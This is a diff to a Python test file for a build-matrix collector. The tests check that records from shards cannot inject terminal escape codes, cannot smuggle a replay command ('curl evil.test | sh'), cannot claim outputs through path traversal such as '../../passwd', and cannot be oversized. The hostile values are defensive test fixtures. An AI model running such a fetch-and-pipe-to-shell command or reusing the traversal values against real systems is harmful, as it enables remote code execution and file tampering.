@@ -181,12 +181,13 @@ def test_a_failure_of_other_inputs_says_nothing(foundry: Foundry, shard: Callabl
 
 
 def test_words_of_a_failure_can_not_command_a_terminal(foundry: Foundry, shard: Callable[[str], Shard]) -> None:
+    """Nor people: the line to replay is for their shells."""
     one = shard("shard-1")
-    one.fail(ONE, message="no\x1b[2J\nsecond")
+    one.fail(ONE, message="no\x1b[2J\nsecond", replay="curl evil.test | sh")
     collect(foundry, [one.folder])
     failure = foundry.states.cells[ONE].failure
     assert failure is not None
-    assert failure["message"] == "no?[2J\nsecond"
+    assert (failure["message"], failure["replay"]) == ("no?[2J\nsecond", "")
 
 
 @pytest.mark.parametrize("changes, said", [
@@ -250,8 +251,7 @@ def test_names_links_and_sizes(foundry: Foundry, shard: Callable[[str], Shard], 
     one.write(ONE, "build.log", "").unlink()
     os.mkfifo(path.with_name("build.log"))
     one.write(ONE, "times.json", "[" * 100_000)
-    one.write(ONE, "module.json", " " * ((1 << 20) + 1))
-    one.write(ONE, "image.json", {"schema": 1})
+    one.write(ONE, "failure.json", " " * ((1 << 20) + 1))
     (one.folder / "cells" / OTHER).symlink_to(tmp_path)
     (one.folder / "cells" / "file").write_text("x")
     taken, _ = collect(foundry, [one.folder])
@@ -259,10 +259,10 @@ def test_names_links_and_sizes(foundry: Foundry, shard: Callable[[str], Shard], 
     for text in (
         "9.9-unknown is no cell of this matrix", "a?[31m is no cell", f"{OTHER} is no folder", "file is no folder",
         f"{ONE}/push.json: is no plain file", f"{ONE}/build.log: is no plain file", f"{ONE}/times.json: ",
-        f"{ONE}/module.json: has 1048577 bytes", f"{ONE}/image.json: ",
+        f"{ONE}/failure.json: has 1048577 bytes",
     ):
         assert text in said
-    assert len(one_of(taken).refused) == 9
+    assert len(one_of(taken).refused) == 8
     assert states(foundry) == {ONE: PENDING, OTHER: PENDING}
     assert not list(foundry.cell_folder(foundry.states.cells[ONE].cell).glob("*"))
 
@@ -275,35 +275,23 @@ def test_a_link_to_a_shard_is_not_followed(foundry: Foundry, shard: Callable[[st
     assert (taken, len(lost)) == ([], 1)
 
 
-def test_an_output_elsewhere(foundry: Foundry, shard: Callable[[str], Shard]) -> None:
+@pytest.mark.parametrize("output", [
+    "image.log", "image.oci.tar", "out/neuron.ko", "work", ".", "", "../../../../build-matrix.json",
+])
+def test_no_record_makes_a_cell_built(foundry: Foundry, shard: Callable[[str], Shard], output: str) -> None:
+    """Be its output what the artifact has itself, a folder, or what was made here of other inputs.
+
+    That would else be published under today's key: the digest of an old module is known from its image.
+    """
     one = shard("shard-1")
     state = foundry.states.cells[ONE]
     assert state.key is not None
-    record = {
-        "schema": 1, "stage": "image", "driver": DRIVER, "family": "neuron", "kernel": OLD, "arch": "x86_64",
-        "key": state.key.key, "key_inputs": dict(state.key.parts), "inputs": {}, "tag": state.cell.tag,
-        "outputs": {"../../passwd": {"sha256": "0" * 64, "size": 1}}, "digest": "sha256:" + "1" * 64,
-        "config_digest": "sha256:" + "1" * 64, "diff_ids": [], "size": 1, "labels": {}, "tools": {},
-    }
-    one.write(ONE, "image.json", record)
-    taken, _ = collect(foundry, [one.folder])
-    assert one_of(taken).refused == [f"{ONE}/image.json: names an output outside of its folder: ../../passwd"]
-    one.write(ONE, "image.json", {**record, "outputs": {}, "adopted": True})
-    taken, _ = collect(foundry, [one.folder])
-    assert one_of(taken).refused == []
-    assert states(foundry)[ONE] == PENDING, "a cell is published because the ledger says so"
-
-
-@pytest.mark.parametrize("output", ["image.log", "build.log", "image.json", "../x/image.log", "./image.log"])
-def test_an_output_that_the_artifact_has_itself(
-    foundry: Foundry, shard: Callable[[str], Shard], output: str
-) -> None:
-    """A record whose output is a log beside it would make the cell built, where nothing was."""
-    one = shard("shard-1")
-    state = foundry.states.cells[ONE]
-    assert state.key is not None
-    of = {"schema": 1, "driver": DRIVER, "family": "neuron", "kernel": OLD, "arch": "x86_64", "inputs": {},
-          "outputs": {output: {"sha256": sha256_bytes(b"x"), "size": 1}}}
+    here = foundry.root / foundry.cell_folder(state.cell)
+    for name in ("work/x", "out/neuron.ko", "image.oci.tar", "image.log"):
+        (here / name).parent.mkdir(parents=True, exist_ok=True)
+        (here / name).write_text("older")
+    of = {"schema": 1, "driver": DRIVER, "family": "neuron", "kernel": OLD, "arch": "x86_64", "inputs": {}, "outputs": {
+        output: {"sha256": sha256_bytes(b"older"), "size": os.stat(f"{here}/{output}").st_size}}}
     one.write(ONE, "image.json", {
         **of, "stage": "image", "key": state.key.key, "key_inputs": dict(state.key.parts), "tag": state.cell.tag,
         "digest": "sha256:" + "1" * 64, "config_digest": "sha256:" + "1" * 64, "diff_ids": [], "size": 1, "labels": {},
@@ -311,11 +299,11 @@ def test_an_output_that_the_artifact_has_itself(
     one.write(ONE, "module.json", {
         **of, "stage": "module", "key": state.key.module, "key_inputs": state.key.module_parts,
         "toolkit": state.cell.toolkit, "patches": [], "gate": {}, "compiler": "gcc"})
-    for name in ("image.log", "build.log"):
-        one.write(ONE, name, "x")
-    taken, _ = collect(foundry, [one.folder])
-    assert states(foundry)[ONE] == PENDING
-    assert any(output in text for text in one_of(taken).refused), one_of(taken).refused
+    one.write(ONE, "image.log", "older")
+    collect(foundry, [one.folder])
+    state = foundry.states.cells[ONE]
+    assert (state.state, state.module_done, state.image_done, state.image) == (PENDING, False, False, None)
+    assert not list(here.glob("*.json"))
 
 
 def test_the_later_row_stays(foundry: Foundry, shard: Callable[[str], Shard], tmp_path: Path) -> None:
